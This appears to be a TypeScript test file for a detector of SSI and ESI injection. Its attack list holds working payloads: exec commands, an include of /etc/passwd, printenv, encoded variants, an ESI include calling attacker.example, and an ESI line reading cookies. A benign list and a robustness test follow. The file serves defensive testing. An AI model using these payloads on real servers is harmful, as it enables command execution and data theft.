import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ssiDetector as d } from '../src/detect/detect-ssi.js';
import { hostile, inspectValue, rulesFor } from './helpers/detect-point.js';

describe('SSI / ESI injection detector', () => {
  const attacks: Array<[string, string]> = [
    ['<!--#exec cmd="id" -->', 'ST-SSI-001'],
    ['<!-- #exec cmd="ls" -->', 'ST-SSI-001'],
    ['<!--#include virtual="/etc/passwd" -->', 'ST-SSI-002'],
    ['<!--#echo var="DOCUMENT_ROOT" -->', 'ST-SSI-002'],
    ['<!--#printenv -->', 'ST-SSI-002'],
    ['%3C!--%23exec%20cmd%3D%22id%22--%3E', 'ST-SSI-001'],
    ['&lt;!--#exec cmd="id"--&gt;', 'ST-SSI-001'],
    ['<esi:include src="http://attacker.example/x"/>', 'ST-SSI-003'],
    ['<esi:vars>$(HTTP_COOKIE)</esi:vars>', 'ST-SSI-003'],
  ];
  for (const [value, rule] of attacks)
    it(`flags ${value} (${rule})`, () => assert.deepEqual(rulesFor(d, value), [rule]));
  const benign = [
    '<!-- #header -->',
    '<!-- TODO: include footer -->',
    '<div id="exec">x</div>',
    'Execute the plan <b>now</b>',
    '<!--#include is SSI syntax',
  ];
  for (const value of benign) it(`leaves ${value} alone`, () => assert.deepEqual(rulesFor(d, value), []));
  it('survives 1 MB of comment openers', () => {
    assert.ok(Array.isArray(inspectValue(d, hostile('<!--#'))));
  });
});
